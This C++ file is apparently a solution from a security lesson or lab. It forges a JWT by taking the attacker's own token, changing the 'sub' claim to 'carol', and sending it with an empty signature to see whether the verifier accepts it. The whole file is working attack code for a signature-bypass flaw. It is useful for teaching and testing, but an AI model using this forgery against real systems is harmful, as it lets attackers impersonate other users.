// Believes: the shortest signature is none at all.
#include "base/base64url.hpp"
#include "json/value.hpp"
#include "jwt/token_parts.hpp"
#include "read_object.hpp"
#include "short_signature.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto own = jwt::split_token(evidence.own_token).value();
  json::Value claims = read_object(own.payload).value();
  claims.set("sub", "carol");
  const std::string text = std::string(own.header) + "." + base::base64url_encode(claims.dump()) + ".";

  return {.forged_token = evidence.opens(text) ? text : ""};
}

}  // namespace lesson
